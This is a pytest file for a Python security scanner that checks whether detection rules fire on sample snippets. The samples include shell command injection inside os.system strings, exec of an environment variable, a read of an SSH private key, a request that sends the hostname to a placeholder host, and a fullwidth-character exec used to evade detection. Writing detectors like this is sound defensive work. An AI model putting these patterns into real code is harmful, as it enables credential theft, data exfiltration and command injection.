"""What calls mean."""

from __future__ import annotations

import pytest

from hanse.flows.rulesets import builtin_ruleset
from hanse.scan.dispatch import extract
from hanse.scan.source import BytesSource
from hanse.scan.verdict import judge


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ('import os\nos.system("git status; evil")', "PYTHON-PROCESS-LOAD"),
        ('import os\nos.system("git status && make -j 4")', "PYTHON-PROCESS-TOOL"),
        ('import os\nos.system("git clone $(evil)")', "PYTHON-PROCESS-LOAD"),
        ('import os\nos.system("pip install numpy")', "PYTHON-PROCESS-TOOL"),
        ('import os\nos.system("pip install git+https://example.org/x")', "PYTHON-PROCESS-INSTALL"),
        ("import os\nos.system(command)", "PYTHON-PROCESS-UNKNOWN"),
        ('import os\nos.system(f"tool {command}")', "PYTHON-PROCESS-UNKNOWN"),
        ("import os\ndef f(command):\n    os.system(command)", "PYTHON-PROCESS-USE"),
        ('import os\nexec(os.environ["X"])', "PYTHON-EXEC-OUTSIDE"),
        ('exec(open("version.py").read())', "PYTHON-EXEC"),
        ('import torch\ntorch.hub.load("a/b", "c")', "PYTHON-REMOTE-CODE"),
        ('import ctypes\nctypes.CDLL("libc.so.6")', "PYTHON-NATIVE"),
        ('open("/home/user/.ssh/id_rsa")', "PYTHON-READ-SECRET"),
        ('import requests, socket\nrequests.get("http://x/" + socket.gethostname())', "PYTHON-EXFILTRATE-HOST"),
        ('import requests\nrequests.get("http://x/")', "PYTHON-NETWORK"),
        ("import x\nprint 'a'", "PYTHON-UNREADABLE"),
        ("import x\n\uff45xec(x)", "PYTHON-NAME-FOLDED"),
    ],
)
def test_rules(text: str, rule: str) -> None:
    """Each rule applies to what it is named after."""
    found = judge(extract(BytesSource(text.encode())), "x.py", builtin_ruleset())
    assert rule in {one.rule for one in found.findings}
